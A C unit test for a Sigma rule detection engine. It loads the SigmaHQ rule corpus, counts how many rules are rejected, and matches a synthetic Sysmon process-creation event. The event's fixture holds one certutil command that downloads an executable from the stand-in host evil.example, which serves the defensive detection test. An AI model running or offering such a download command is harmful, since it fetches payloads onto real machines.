/* test_sigma_corpus.c — load and compile the whole SigmaHQ rule set from
 * $VG_CORPUS/sigma: at least 99% of rules/ must load (every rejection is
 * printed with its reason), and a hand-built Sysmon process_creation event
 * must meet the rule written for it. Skipped when VG_CORPUS is unset. */
#include <dirent.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

#include <cmocka.h>

#include "detect/sigma_compile.h"
#include "sigma_test_util.h"

static size_t count_rule_files(const char *dir)
{
	DIR *d = opendir(dir);
	size_t n = 0;
	struct dirent *de;
	if (d == NULL)
		return 0;
	while ((de = readdir(d)) != NULL) {
		char p[4096];
		struct stat st;
		if (de->d_name[0] == '.')
			continue;
		snprintf(p, sizeof(p), "%s/%s", dir, de->d_name);
		if (stat(p, &st) != 0)
			continue;
		size_t l = strlen(de->d_name);
		if (S_ISDIR(st.st_mode))
			n += count_rule_files(p);
		else if (l > 4 && strcmp(de->d_name + l - 4, ".yml") == 0)
			n++;
	}
	closedir(d);
	return n;
}

static void print_reject(void *ud, const char *path, const char *id, const char *reason)
{
	(*(size_t *)ud)++;
	printf("rejected: %s [%s]: %s\n", path, id, reason);
}

static void on_match(void *ud, size_t idx, const vg_rule_info *r)
{
	(void)idx;
	if (strstr(r->path, "proc_creation_win_certutil_download.yml") != NULL)
		(*(int *)ud)++;
}

static void test_sigmahq_rules(void **state)
{
	(void)state;
	const char *corpus = getenv("VG_CORPUS");
	if (corpus == NULL)
		skip();
	char dir[4096];
	snprintf(dir, sizeof(dir), "%s/sigma/rules", corpus);
	size_t files = count_rule_files(dir), rejected = 0;
	assert_true(files > 3000);
	vg_engine *e = vg_engine_new();
	assert_int_equal(vg_engine_load_path(e, dir, print_reject, &rejected), 0);
	size_t loaded = vg_engine_loaded(e);
	assert_int_equal(vg_engine_compile(e, print_reject, &rejected), 0);
	printf("SigmaHQ rules/: %zu files, %zu rules loaded and compiled, %zu rejected\n", files,
	       vg_engine_loaded(e), rejected);
	assert_int_equal(vg_engine_rejected(e), rejected);
	assert_true(loaded * 100 >= files * 99);
	assert_true(vg_engine_loaded(e) * 100 >= files * 99);

	vg_matcher *m = vg_matcher_new(e);
	vg_event *ev = vg_event_new();
	const char *img = "C:\\Windows\\System32\\certutil.exe";
	const char *cmd = "certutil.exe -urlcache -split -f http://evil.example/a.exe C:\\Users\\Public\\a.exe";
	vg_event_reset(ev, cmd, strlen(cmd), "-", 1);
	ev->product = VG_PRODUCT_WINDOWS;
	ev->service = VG_SERVICE_SYSMON;
	ev->category = VG_CATEGORY_PROCESS_CREATION;
	assert_int_equal(vg_event_add_str(ev, "winlog.event_id", "1", 1), 0);
	assert_int_equal(vg_event_add_str(ev, "winlog.event_data.Image", img, strlen(img)), 0);
	assert_int_equal(vg_event_add_str(ev, "winlog.event_data.CommandLine", cmd, strlen(cmd)), 0);
	assert_int_equal(vg_event_add_str(ev, "winlog.event_data.OriginalFileName", "CertUtil.exe", 12), 0);
	int hit = 0;
	assert_int_equal(vg_matcher_run(m, ev, on_match, &hit), 0);
	assert_int_equal(hit, 1);
	vg_event_free(ev);
	vg_matcher_free(m);
	vg_engine_free(e);
}

static void test_whole_sigmahq_set(void **state)
{
	(void)state;
	const char *corpus = getenv("VG_CORPUS");
	if (corpus == NULL)
		skip();
	const char *sub[] = {"rules", "rules-emerging-threats", "rules-threat-hunting"};
	vg_engine *e = vg_engine_new();
	size_t rejected = 0;
	for (size_t i = 0; i < 3; i++) {
		char dir[4096];
		snprintf(dir, sizeof(dir), "%s/sigma/%s", corpus, sub[i]);
		assert_int_equal(vg_engine_load_path(e, dir, print_reject, &rejected), 0);
	}
	assert_int_equal(vg_engine_compile(e, print_reject, &rejected), 0);
	/* databases are built on first use: build them all here */
	assert_int_equal(vg_compile_build_all(e), 0);
	printf("SigmaHQ rules + emerging-threats + threat-hunting: %zu compiled, %zu rejected; %zu lits, %zu partitions, "
	       "%zu KB of Hyperscan databases, %zu lits Hyperscan refused\n",
	       vg_engine_loaded(e), rejected, e->nlits, e->nparts, e->hs_bytes / 1024, e->hs_fallback);
	assert_true(vg_engine_loaded(e) > 3600);
	assert_true(rejected <= 10);
	vg_engine_free(e);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_sigmahq_rules),
		cmocka_unit_test(test_whole_sigmahq_set),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
